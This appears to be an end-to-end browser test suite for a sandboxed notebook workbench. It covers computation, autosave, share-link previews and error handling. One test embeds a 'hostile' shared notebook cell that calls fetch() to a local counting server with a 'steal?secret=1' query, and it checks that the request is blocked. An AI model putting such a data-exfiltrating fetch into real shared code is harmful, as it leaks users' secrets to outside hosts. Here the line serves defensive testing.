/**
 * The workbench end to end in Chromium, against the built app (`vite build` output in dist/, served
 * by a plain Node static server so the CSP meta of the build is in force). The notebook runs in the
 * sandboxed frame (`nb(page)`); title, toolbar, banners and the consent bar are the shell's.
 */
import { describe, expect, it } from "vitest";
import { unwrap } from "../../src/base/result";
import { encodeShare } from "../../src/notebook/share-codec";
import { countingServer } from "./static-server";
import { nb, openApp, outputText, screenshotDir, typeIntoCell, waitForOutput } from "./browser-helpers";
import { useWorkbench } from "./use-workbench";

const wb = useWorkbench({ context: { viewport: { width: 1360, height: 900 } }, page: true });
let sharedLink = "";

async function shareLinkOf(doc: Parameters<typeof encodeShare>[0]["doc"], inputs: Record<string, unknown> = {}): Promise<string> {
  return `${wb.server.url}#share=${unwrap(await encodeShare({ doc, inputs }))}`;
}

describe("workbench in Chromium", () => {
  it("opens the demo notebook and computes every cell from the bundled CSV", async () => {
    await openApp(wb.page, wb.server.url, "#/nb/demo");
    await waitForOutput(wb.page, "9", "435 municipalities");
    await waitForOutput(wb.page, "9", "4,445,329 inhabitants");
    await waitForOutput(wb.page, "9", "189 of them have at least 5,000");
    expect(await nb(wb.page).locator("nb-cell").count()).toBe(12);
    expect(await nb(wb.page).locator("#cell-10 .nb-output svg").count()).toBeGreaterThan(0);
    expect(await outputText(wb.page, "11")).toContain("Østlandet");
    await expect.poll(() => wb.page.locator("input.nb-title").inputValue()).toBe("Kommuner i 1999 — demo");
    await wb.page.screenshot({ path: `${screenshotDir}/main-view.png` });
  });

  it("editing a cell and pressing Shift-Enter recomputes its dependent", async () => {
    await typeIntoCell(wb.page, "5", "const grense = 50000");
    expect(await nb(wb.page).locator("#cell-5 .nb-changed").count()).toBe(1);
    expect(await outputText(wb.page, "9")).toContain("189 of them");
    await wb.page.keyboard.press("Shift+Enter");
    await waitForOutput(wb.page, "9", "10 of them have at least 50,000");
    expect(await nb(wb.page).locator("#cell-5 .nb-changed").count()).toBe(0);
  });

  it("moving an input updates the dependent cells", async () => {
    await nb(wb.page).locator("#cell-3 select").selectOption("Nord-Norge");
    await waitForOutput(wb.page, "9", "89 municipalities");
    await waitForOutput(wb.page, "9", "462,808 inhabitants");
    await waitForOutput(wb.page, "9", "1 of them have at least 50,000");
    expect(await outputText(wb.page, "11")).not.toContain("Østlandet");
  });

  it("keeps the edit after a reload (IndexedDB autosave)", async () => {
    await wb.page.waitForSelector(".nb-save-status.is-saved");
    await wb.page.reload();
    await waitForOutput(wb.page, "9", "10 of them have at least 50,000");
    expect(await nb(wb.page).locator("#cell-5 .nb-editor").textContent()).toContain("50000");
    expect(await wb.page.locator(".nb-list .nb-badge").count()).toBeGreaterThan(0);
  });

  it("a share link opens in a fresh profile as a preview that runs nothing, then runs to the same values", async () => {
    await nb(wb.page).locator("#cell-3 select").selectOption("Trøndelag");
    await waitForOutput(wb.page, "9", "49 municipalities");
    await wb.page.click(".nb-share");
    sharedLink = await wb.page.locator(".nb-share-link").inputValue();
    expect(sharedLink).toMatch(/#share=v1\./);
    await wb.page.click(".nb-dialog .nb-button:not(.nb-primary)");

    const fresh = await wb.browser.newContext({ viewport: { width: 1360, height: 900 } });
    const other = await fresh.newPage();
    const dataRequests: string[] = [];
    other.on("request", (r) => {
      if (r.url().includes("/data/")) dataRequests.push(r.url());
    });
    await other.goto(sharedLink);
    await other.waitForSelector(".nb-preview-bar");
    // The shell shows its bar before the frame has drawn the cells: wait for the twelfth, then count
    // (a thirteenth would still fail the count).
    await nb(other).locator("nb-cell").nth(11).waitFor();
    expect(await nb(other).locator("nb-cell").count()).toBe(12);
    expect(await nb(other).locator("#cell-5 .nb-editor").textContent()).toContain("50000");
    await other.waitForTimeout(500);
    expect(dataRequests).toEqual([]);
    expect(await nb(other).locator(".nb-output > *").count()).toBe(0);
    await other.screenshot({ path: `${screenshotDir}/share-preview.png` });

    await other.click(".nb-consent");
    await waitForOutput(other, "9", "49 municipalities");
    await waitForOutput(other, "9", "387,652 inhabitants");
    expect(await nb(other).locator("#cell-3 select option:checked").textContent()).toBe("Trøndelag");
    expect(await outputText(other, "9")).toBe(await outputText(wb.page, "9"));
    expect(dataRequests.length).toBeGreaterThan(0);
    await fresh.close();
  });

  it("a hostile link runs nothing before consent and its request to another origin is blocked after", async () => {
    const counter = await countingServer();
    try {
      const link = await shareLinkOf({
        title: "Innocent",
        cells: [
          { id: "1", kind: "js", source: `const leak = await fetch("${counter.url}steal?secret=1").then((r) => r.text())` },
          { id: "2", kind: "js", source: "6 * 7" },
        ],
      });
      const fresh = await wb.browser.newContext();
      const other = await fresh.newPage();
      const violations: string[] = [];
      other.on("console", (m) => {
        if (m.text().includes("Content Security Policy") && m.text().includes(counter.url.slice(0, -1))) violations.push(m.text());
      });
      await other.goto(link);
      await other.waitForSelector(".nb-preview-bar");
      await other.waitForTimeout(500);
      expect(counter.hits()).toBe(0);
      await other.click(".nb-consent");
      await nb(other).locator("#cell-1 .nb-error").waitFor();
      await other.waitForTimeout(300);
      expect(counter.hits()).toBe(0);
      expect(violations.some((v) => v.includes("connect-src"))).toBe(true);
      expect(await nb(other).locator("#cell-1 .nb-error").textContent()).toMatch(/fetch/i);
      await waitForOutput(other, "2", "42");
      await fresh.close();
    } finally {
      await counter.close();
    }
  });

  it("stops a while(true) cell with a message and stays usable", async () => {
    const fresh = await wb.browser.newContext();
    const other = await fresh.newPage();
    await other.goto(
      await shareLinkOf({
        title: "Runaway",
        cells: [
          { id: "1", kind: "js", source: "const x = 20" },
          { id: "2", kind: "js", source: "while (true) {}" },
          { id: "3", kind: "js", source: "x + 1" },
        ],
      }),
    );
    await other.click(".nb-consent");
    const started = Date.now();
    await nb(other).locator("#cell-2 .nb-error").waitFor({ timeout: 20_000 });
    expect(Date.now() - started).toBeLessThan(10_000);
    expect((await nb(other).locator("#cell-2 .nb-error").textContent()) ?? "").toMatch(/stop|too long|time/i);
    await waitForOutput(other, "3", "21");
    await typeIntoCell(other, "3", "x * 2");
    await other.keyboard.press("Shift+Enter");
    await waitForOutput(other, "3", "40");
    await other.screenshot({ path: `${screenshotDir}/runaway-stopped.png` });
    await fresh.close();
  });

  it("keeps an unrun draft typed just before the tab is reloaded, marked as changed", async () => {
    await wb.page.goto(`${wb.server.url}#/nb/demo`);
    await waitForOutput(wb.page, "9", "municipalities");
    await typeIntoCell(wb.page, "8", "const store = 123");
    // The draft has reached the shell (it marks a save as pending) but its 300 ms debounce has not
    // run out: pagehide/visibilitychange must flush the pending save.
    await wb.page.waitForSelector(".nb-save-status.is-pending");
    await wb.page.reload();
    await nb(wb.page).locator("#cell-8 .nb-changed").waitFor();
    expect(await nb(wb.page).locator("#cell-8 .nb-editor").textContent()).toContain("const store = 123");
    await nb(wb.page).locator("#cell-8 .nb-editor").click();
    await nb(wb.page).locator("#cell-8 .cm-content:focus").waitFor();
    await wb.page.keyboard.press("Shift+Enter");
    await waitForOutput(wb.page, "9", "123 of them");
  });

  it("without IndexedDB (private mode) it says so, keeps working and keeps the text in memory", async () => {
    const fresh = await wb.browser.newContext();
    await fresh.addInitScript(() => {
      Object.defineProperty(window, "indexedDB", { value: undefined, configurable: true });
    });
    const other = await fresh.newPage();
    await other.goto(`${wb.server.url}#/nb/demo`);
    await other.waitForSelector(".nb-banner.is-warning");
    expect(await other.locator(".nb-banner.is-warning").textContent()).toMatch(/cannot save.*Export/s);
    await waitForOutput(other, "9", "435 municipalities");
    await typeIntoCell(other, "5", "const grense = 100000");
    await other.keyboard.press("Shift+Enter");
    await waitForOutput(other, "9", "5 of them have at least 100,000");
    await other.waitForSelector(".nb-save-status.is-memory-only");
    await other.screenshot({ path: `${screenshotDir}/storage-unavailable.png` });
    await fresh.close();
  });

  it("a corrupt or truncated link shows an error and changes nothing locally", async () => {
    const before = await wb.page.locator(".nb-list li").allTextContents();
    await wb.page.goto(`${wb.server.url}#share=v1.10.deadbeef.AAAAAAAAAA`);
    await wb.page.waitForSelector(".nb-banner.is-error");
    expect(await wb.page.locator(".nb-banner.is-error").textContent()).toMatch(/damaged/);
    expect(await wb.page.locator(".nb-preview-bar").count()).toBe(0);
    await wb.page.screenshot({ path: `${screenshotDir}/corrupt-link.png` });

    await wb.page.goto(sharedLink.slice(0, sharedLink.length - 30));
    await wb.page.waitForSelector(".nb-banner.is-error");
    await expect.poll(async () => wb.page.locator(".nb-banner.is-error").last().textContent()).toMatch(/cut off/);

    await wb.page.goto(`${wb.server.url}#/nb/demo`);
    await wb.page.reload();
    await waitForOutput(wb.page, "9", "123 of them have at least 50,000");
    expect(await wb.page.locator(".nb-list li").allTextContents()).toEqual(before);
  });
});
